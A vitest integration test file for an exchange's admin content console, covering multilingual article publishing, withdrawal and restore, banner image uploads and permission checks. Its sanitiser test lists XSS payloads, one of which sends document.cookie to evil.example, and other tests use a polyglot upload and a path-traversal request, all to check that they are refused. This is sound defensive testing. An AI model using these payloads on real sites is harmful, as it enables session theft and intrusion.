import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type {
  AdminArticle,
  AdminArticleRow,
  ArticleSaveRequest,
  ContentImage,
  NewsItem,
  Paged,
} from '@oex/protocol';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestExchange, type TestExchange } from './helpers/exchange.js';
import { operatorSession, type OperatorSession } from './helpers/operators.js';
import { pngImage, zipArchive } from './helpers/uploads.js';
import { signUp } from './helpers/users.js';

const NOTICES = 22;
const BANNERS = 1;

let ex: TestExchange;
let uploadsDir: string;
let admin: OperatorSession;
let support: OperatorSession;
let viewer: OperatorSession;
let user: { token: string };

beforeAll(async () => {
  uploadsDir = mkdtempSync(join(tmpdir(), 'oex-content-'));
  ex = await startTestExchange({ uploadsDir });
  admin = await operatorSession(ex, 'admin');
  support = await operatorSession(ex, 'support');
  viewer = await operatorSession(ex, 'viewer');
  user = await signUp(ex.api);
});
afterAll(async () => {
  await ex?.stop();
  rmSync(uploadsDir, { recursive: true, force: true });
});

const as = (operator: OperatorSession) => ({ headers: operator.headers });

function save(body: ArticleSaveRequest | Record<string, unknown>, operator = admin) {
  return ex.api.post<AdminArticle>('admin/content/articles/save', body, as(operator));
}

async function saved(body: ArticleSaveRequest): Promise<AdminArticle> {
  const answer = await save(body);
  expect(answer.body, answer.body.msg).toMatchObject({ code: 1 });
  return answer.body.data!;
}

function publicList(category: number, lang = 'en') {
  return ex.api.get<Paged<NewsItem>>('news/list', { category_id: category, limit: 50 }, { lang });
}

function publicInfo(id: number, lang = 'en') {
  return ex.api.get<NewsItem>('news/info', { id }, { lang });
}

/** Sends a file to the console's upload as a browser form would. */
async function upload(
  data: Uint8Array,
  headers: Record<string, string>,
  name = 'banner.png',
  type = 'image/png',
) {
  const form = new FormData();
  form.append('file', new Blob([data], { type }), name);
  const response = await fetch(`${ex.url}/api/admin/content/upload`, {
    method: 'POST',
    headers: { lang: 'en', ...headers },
    body: form,
  });
  return {
    status: response.status,
    body: (await response.json()) as { code: number; msg: string; data?: ContentImage },
  };
}

/** Everything the console can change, to show that a refused call changed none of it. */
async function snapshot() {
  const db = ex.db.kysely;
  return {
    news: await db.selectFrom('news').selectAll().orderBy('id').execute(),
    texts: await db.selectFrom('news_texts').selectAll().orderBy('news_id').orderBy('lang').execute(),
    images: await db.selectFrom('content_images').selectAll().orderBy('id').execute(),
    links: await db.selectFrom('news_images').selectAll().orderBy('news_id').orderBy('image_id').execute(),
    revisions: await db.selectFrom('news_revisions').selectAll().orderBy('id').execute(),
    files: readdirSync(uploadsDir, { recursive: true }).map(String).sort(),
  };
}

async function lastLogEntry() {
  return ex.db.kysely.selectFrom('operator_log').selectAll().orderBy('id', 'desc').executeTakeFirstOrThrow();
}

const notice = (en: string, zh?: string): ArticleSaveRequest => ({
  category_id: NOTICES,
  sort: 0,
  texts: {
    en: { title: en, content: `<p>${en}: trading pauses for 30 minutes.</p>` },
    ...(zh ? { zh: { title: zh, content: `<p>${zh}：交易暂停 30 分钟。</p>` } } : {}),
  },
});

describe('publishing a notice', () => {
  it('shows it in English and Chinese on the public calls, and in English for the other languages', async () => {
    const article = await saved(notice('Maintenance on Sunday', '周日维护'));
    expect(article).toMatchObject({
      category_id: NOTICES,
      status: 'published',
      langs: ['en', 'zh'],
      updated_by: admin.name,
    });

    const en = await publicList(NOTICES, 'en');
    expect(en.body.data!.data[0]).toMatchObject({ id: article.id, title: 'Maintenance on Sunday' });
    const zh = await publicList(NOTICES, 'zh');
    expect(zh.body.data!.data[0]).toMatchObject({ id: article.id, title: '周日维护' });
    expect(zh.body.data!.data[0]!.content).toContain('交易暂停');
    for (const lang of ['hk', 'jp', 'gm', 'du', 'fr']) {
      const info = await publicInfo(article.id, lang);
      expect(info.body.data, lang).toMatchObject({ title: 'Maintenance on Sunday', category_id: NOTICES });
    }
    expect((await publicInfo(article.id, 'zh')).body.data!.title).toBe('周日维护');

    const entry = await lastLogEntry();
    expect(entry).toMatchObject({
      action: 'admin/content/articles/save',
      operator_name: admin.name,
      outcome: 'ok',
    });
    expect(entry.target).toBe(`article=${article.id}`);
    expect(JSON.parse(entry.before)).toBeNull();
    expect(JSON.parse(entry.after)).toMatchObject({ id: article.id, texts: { zh: { title: '周日维护' } } });
  });

  it('saves a new version: texts replaced, a removed language falls back, the log and the history hold both', async () => {
    const first = await saved(notice('Wallet upgrade', '钱包升级'));
    const edited = await saved({
      id: first.id,
      category_id: NOTICES,
      sort: 3,
      texts: {
        en: { title: 'Wallet upgrade (moved to Monday)', content: '<p>Moved.</p>' },
        fr: { title: 'Mise à niveau du portefeuille', content: '<p>Déplacée.</p>' },
      },
      reason: 'Date changed',
    });
    expect(edited).toMatchObject({
      id: first.id,
      sort: 3,
      langs: ['en', 'fr'],
      created_at: first.created_at,
    });
    expect(edited.history.map((revision) => revision.action)).toEqual(['save', 'save']);
    expect(edited.history[0]).toMatchObject({ operator: admin.name, reason: 'Date changed' });

    expect((await publicInfo(first.id, 'zh')).body.data!.title).toBe('Wallet upgrade (moved to Monday)');
    expect((await publicInfo(first.id, 'fr')).body.data!.title).toBe('Mise à niveau du portefeuille');

    const entry = await lastLogEntry();
    expect(entry.reason).toBe('Date changed');
    expect(JSON.parse(entry.before)).toMatchObject({
      texts: { en: { title: 'Wallet upgrade' }, zh: { title: '钱包升级' } },
    });
    expect(JSON.parse(entry.after)).toMatchObject({
      texts: { en: { title: 'Wallet upgrade (moved to Monday)' } },
    });
    const kept = await ex.db.kysely
      .selectFrom('news_revisions')
      .select('article')
      .where('news_id', '=', first.id)
      .orderBy('id')
      .execute();
    expect(kept.map((row) => (JSON.parse(row.article) as AdminArticle).texts.en!.title)).toEqual([
      'Wallet upgrade',
      'Wallet upgrade (moved to Monday)',
    ]);
  });
});

describe('sanitising on the server', () => {
  const injected = [
    '<p>Intro <strong>kept</strong></p>',
    '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
    '<img src=x onerror="alert(1)">',
    '<a href="&#106;avascript:alert(1)">encoded link</a>',
    '<a href=" java\tscript:alert(1)">spaced link</a>',
    '<svg onload=alert(1)><circle r="5"/></svg>',
    '<p style="background:url(javascript:alert(1))" onclick="alert(1)">styled</p>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    '<form action="https://evil.example/"><input name="password"></form>',
    '<a href="https://example.org/">outside</a>',
    '<p>unclosed <em>tags',
  ].join('');

  it('stores and serves only the allowed markup, in the preview, the console and the public call alike', async () => {
    const before = await snapshot();
    const preview = await ex.api.post<Record<string, { title: string; content: string }>>(
      'admin/content/preview',
      { texts: { en: { title: 'Preview', content: injected } } },
      as(admin),
    );
    expect(preview.body.code).toBe(1);
    expect(await snapshot()).toEqual(before);

    const article = await saved({
      category_id: 6,
      sort: 0,
      texts: { en: { title: 'Injected', content: injected }, zh: { title: '注入', content: injected } },
    });
    const shown = (await publicInfo(article.id)).body.data!.content;
    for (const body of [
      shown,
      article.texts.en!.content,
      article.texts.zh!.content,
      preview.body.data!.en!.content,
    ]) {
      expect(body).toBe(shown);
    }
    expect(shown).not.toMatch(
      /<script|<svg|<iframe|<meta|<form|<input|\son\w+=|style=|javascript:|data:|srcdoc/i,
    );
    expect(shown).toContain('<p>Intro <strong>kept</strong></p>');
    expect(shown).toContain('encoded link');
    expect(shown).toContain(
      '<a href="https://example.org/" rel="noopener noreferrer nofollow" target="_blank">outside</a>',
    );
    expect(shown).toContain('<p>unclosed <em>tags</em></p>');
  });

  it('refuses a body that is empty once cleaned, naming the language', async () => {
    const before = await snapshot();
    const answer = await save({
      category_id: NOTICES,
      sort: 0,
      texts: {
        en: { title: 'Fine', content: '<p>ok</p>' },
        jp: { title: 'x', content: '<script>alert(1)</script>' },
      },
    });
    expect(answer.status).toBe(400);
    expect(answer.body.msg).toBe('The jp text has no content once cleaned');
    expect(await snapshot()).toEqual(before);
  });
});

describe('withdrawing', () => {
  it('takes an article off the public pages, says so on its link, keeps it, and can publish it again', async () => {
    const article = await saved(notice('Listing of FAIR', '上线 FAIR'));
    const before = await snapshot();
    const noReason = await ex.api.post('admin/content/articles/withdraw', { id: article.id }, as(admin));
    expect(noReason.status).toBe(400);
    expect(
      await ex.api.post('admin/content/articles/withdraw', { id: article.id, reason: 'x' }, as(admin)),
    ).toMatchObject({
      status: 400,
    });
    expect(await snapshot()).toEqual(before);

    const withdrawn = await ex.api.post<AdminArticle>(
      'admin/content/articles/withdraw',
      { id: article.id, reason: 'Published by mistake' },
      as(admin),
    );
    expect(withdrawn.body.data).toMatchObject({
      status: 'withdrawn',
      withdrawn_by: admin.name,
      withdraw_reason: 'Published by mistake',
    });
    expect((await publicList(NOTICES)).body.data!.data.map((item) => item.id)).not.toContain(article.id);
    const gone = await publicInfo(article.id, 'zh');
    expect(gone.body.code).toBe(0);
    expect(gone.body.msg).toBe('该文章已被交易所撤回');
    const row = await ex.db.kysely
      .selectFrom('news')
      .selectAll()
      .where('id', '=', article.id)
      .executeTakeFirstOrThrow();
    expect(row).toMatchObject({ status: 'withdrawn', withdraw_reason: 'Published by mistake' });
    expect(
      await ex.db.kysely.selectFrom('news_texts').select('lang').where('news_id', '=', article.id).execute(),
    ).toHaveLength(2);
    const entry = await lastLogEntry();
    expect(entry).toMatchObject({
      action: 'admin/content/articles/withdraw',
      reason: 'Published by mistake',
      target: `id=${article.id}`,
    });
    expect(JSON.parse(entry.before)).toMatchObject({ status: 'published' });

    const again = await ex.api.post(
      'admin/content/articles/withdraw',
      { id: article.id, reason: 'Twice' },
      as(admin),
    );
    expect(again.status).toBe(409);

    const restored = await ex.api.post<AdminArticle>(
      'admin/content/articles/restore',
      { id: article.id, reason: 'It was right after all' },
      as(admin),
    );
    expect(restored.body.data).toMatchObject({ status: 'published', withdrawn_at: null });
    expect(restored.body.data!.history.map((revision) => revision.action)).toEqual([
      'restore',
      'withdraw',
      'save',
    ]);
    expect((await publicInfo(article.id)).body.data!.title).toBe('Listing of FAIR');
  });

  it('lists published and withdrawn articles to the console, by category and status', async () => {
    const list = await ex.api.get<Paged<AdminArticleRow>>(
      'admin/content/articles',
      { category: NOTICES },
      as(viewer),
    );
    expect(list.body.code).toBe(1);
    expect(list.body.data!.data.every((row) => row.category_id === NOTICES)).toBe(true);
    expect(list.body.data!.data[0]!.sort).toBe(0);
    const demo = list.body.data!.data.find((row) => row.id === 14)!;
    expect(demo.langs).toEqual(['en', 'zh', 'hk', 'jp', 'gm', 'du', 'fr']);

    const article = await saved(notice('Short-lived'));
    await ex.api.post('admin/content/articles/withdraw', { id: article.id, reason: 'Not needed' }, as(admin));
    const withdrawn = await ex.api.get<Paged<AdminArticleRow>>(
      'admin/content/articles',
      { status: 'withdrawn' },
      as(viewer),
    );
    expect(withdrawn.body.data!.data.map((row) => row.id)).toContain(article.id);
    expect(withdrawn.body.data!.data.every((row) => row.status === 'withdrawn')).toBe(true);
    const detail = await ex.api.get<AdminArticle>(`admin/content/articles/${article.id}`, {}, as(viewer));
    expect(detail.body.data).toMatchObject({
      id: article.id,
      status: 'withdrawn',
      texts: { en: { title: 'Short-lived' } },
    });
  });
});

describe('banner images', () => {
  it('are re-encoded, and public only while a published article shows them', async () => {
    const original = await sharp({ create: { width: 900, height: 300, channels: 3, background: '#246' } })
      .png()
      .withMetadata({ exif: { IFD0: { Copyright: 'secret-camera' } } })
      .toBuffer();
    const uploaded = await upload(original, admin.headers);
    expect(uploaded.body, uploaded.body.msg).toMatchObject({
      code: 1,
      data: { mime: 'image/png', width: 900, height: 300 },
    });
    const image = uploaded.body.data!;
    expect(image.url).toMatch(/^\/api\/content\/image\/[A-Za-z0-9_-]{43}\.png$/);

    expect((await fetch(`${ex.url}${image.url}`)).status).toBe(404);
    const name = image.url.split('/').pop()!;
    const forOperator = await fetch(`${ex.url}/api/admin/content/image/${name}`, { headers: viewer.headers });
    expect(forOperator.status).toBe(200);
    const stored = Buffer.from(await forOperator.arrayBuffer());
    expect(stored.includes(Buffer.from('secret-camera'))).toBe(false);

    const banner = await saved({
      category_id: BANNERS,
      sort: 0,
      banner_upload_id: image.id,
      texts: { en: { title: 'Our new banner', content: '<p>See the banner.</p>' } },
    });
    expect(banner).toMatchObject({ banner: image.url, banner_upload_id: image.id });
    const home = await publicList(BANNERS);
    expect(home.body.data!.data[0]).toMatchObject({ id: banner.id, banner: image.url });
    const served = await fetch(`${ex.url}${image.url}`);
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    expect((await sharp(Buffer.from(await served.arrayBuffer())).metadata()).width).toBe(900);

    // An edit without banner_upload_id keeps the banner; a picture in the body must be an upload too.
    const edited = await saved({
      id: banner.id,
      category_id: BANNERS,
      sort: 0,
      texts: { en: { title: 'Our new banner', content: `<p><img src="${image.url}" alt="b"></p>` } },
    });
    expect(edited.banner).toBe(image.url);
    const unknown = await save({
      id: banner.id,
      category_id: BANNERS,
      sort: 0,
      texts: { en: { title: 'x', content: `<p><img src="/api/content/image/${'b'.repeat(43)}.png"></p>` } },
    });
    expect(unknown.status).toBe(400);
    expect(unknown.body.msg).toBe("An image is not one of the console's uploads");

    await ex.api.post(
      'admin/content/articles/withdraw',
      { id: banner.id, reason: 'Campaign over' },
      as(admin),
    );
    expect((await fetch(`${ex.url}${image.url}`)).status).toBe(404);
  });

  it('refuses a banner article without an image, or with an image that is not an upload', async () => {
    const before = await snapshot();
    const texts = { en: { title: 'No picture', content: '<p>x</p>' } };
    const none = await save({ category_id: BANNERS, sort: 0, texts });
    expect(none.status).toBe(400);
    expect(none.body.msg).toBe('A banner needs an image: upload one first');
    const missing = await save({ category_id: BANNERS, sort: 0, banner_upload_id: 999_999, texts });
    expect(missing.status).toBe(400);
    expect(await snapshot()).toEqual(before);
  });

  it('refuses a file that is not an image, and a polyglot, storing nothing', async () => {
    const before = await snapshot();
    const zip = await upload(zipArchive(), admin.headers, 'banner.png', 'image/png');
    expect(zip.status).toBe(415);
    const html = await upload(Buffer.from('<html><script>alert(1)</script></html>'), admin.headers, 'b.png');
    expect(html.status).toBe(415);
    const polyglot = Buffer.concat([await pngImage(), zipArchive()]);
    const refused = await upload(polyglot, admin.headers);
    expect(refused.status).toBe(400);
    expect(refused.body.code).toBe(0);
    expect(await snapshot()).toEqual(before);
  });
});

describe('refusals', () => {
  it('refuses every change to a role without `content`, to a user and to a visitor, changing nothing', async () => {
    const target = await saved(notice('Role check'));
    const before = await snapshot();
    const calls: [string, unknown][] = [
      ['admin/content/articles/save', notice('Sneaky')],
      ['admin/content/articles/save', { ...notice('Edited'), id: target.id }],
      ['admin/content/articles/withdraw', { id: target.id, reason: 'Not mine to withdraw' }],
      ['admin/content/articles/restore', { id: target.id, reason: 'Not mine to restore' }],
      ['admin/content/preview', { texts: notice('x').texts }],
    ];
    for (const operator of [support, viewer]) {
      for (const [path, body] of calls) {
        const answer = await ex.api.post(path, body, as(operator));
        expect(answer.status, `${operator.role} ${path}`).toBe(403);
      }
      expect((await upload(await pngImage(), operator.headers)).status, operator.role).toBe(403);
    }
    for (const [path, body] of calls) {
      expect((await ex.api.post(path, body, { token: user.token })).status, `user ${path}`).toBe(401);
      expect((await ex.api.post(path, body)).status, `visitor ${path}`).toBe(401);
    }
    expect((await upload(await pngImage(), {})).status).toBe(401);
    expect((await ex.api.get('admin/content/articles', {}, { token: user.token })).status).toBe(401);
    expect(await snapshot()).toEqual(before);
    const refusal = await lastLogEntry();
    expect(refusal.outcome).toMatch(/^403/);
  });

  it('refuses bad input and changes nothing', async () => {
    const target = await saved(notice('Bad input target'));
    const before = await snapshot();
    const en = { title: 'Title', content: '<p>Body</p>' };
    const bad: Record<string, unknown>[] = [
      { category_id: NOTICES, sort: 0, texts: { zh: en } },
      { category_id: NOTICES, sort: 0, texts: { en, xx: en } },
      { category_id: 3, sort: 0, texts: { en } },
      { category_id: NOTICES, sort: -1, texts: { en } },
      { category_id: NOTICES, sort: 10_000, texts: { en } },
      { category_id: NOTICES, texts: { en } },
      { category_id: NOTICES, sort: 0, texts: { en: { title: '  ', content: '<p>x</p>' } } },
      { category_id: NOTICES, sort: 0, texts: { en: { title: 'x'.repeat(201), content: '<p>x</p>' } } },
      { category_id: NOTICES, sort: 0, texts: { en: { title: 'x', content: 'x'.repeat(100_001) } } },
      { category_id: NOTICES, sort: 0, texts: { en: { title: 'x', content: 42 } } },
      { category_id: NOTICES, sort: 0, texts: { en }, reason: 'x' },
      { category_id: NOTICES, sort: 0, texts: { en }, banner_upload_id: 'one' },
      { id: 0, category_id: NOTICES, sort: 0, texts: { en } },
    ];
    for (const body of bad) {
      const answer = await save(body);
      expect(answer.status, JSON.stringify(body).slice(0, 120)).toBe(400);
      expect(answer.body.code).toBe(0);
    }
    expect((await save({ id: 999_999, category_id: NOTICES, sort: 0, texts: { en } })).status).toBe(404);
    expect(
      (
        await ex.api.post(
          'admin/content/articles/withdraw',
          { id: 999_999, reason: 'Nothing there' },
          as(admin),
        )
      ).status,
    ).toBe(404);
    expect(
      (
        await ex.api.post(
          'admin/content/articles/restore',
          { id: target.id, reason: 'Is published' },
          as(admin),
        )
      ).status,
    ).toBe(409);
    expect((await ex.api.get('admin/content/articles', { category: 2 }, as(admin))).status).toBe(400);
    expect((await ex.api.get('admin/content/articles/999999', {}, as(admin))).status).toBe(404);
    expect((await fetch(`${ex.url}/api/content/image/..%2F..%2Fexchange.db`)).status).toBe(404);
    expect(await snapshot()).toEqual(before);
  });
});
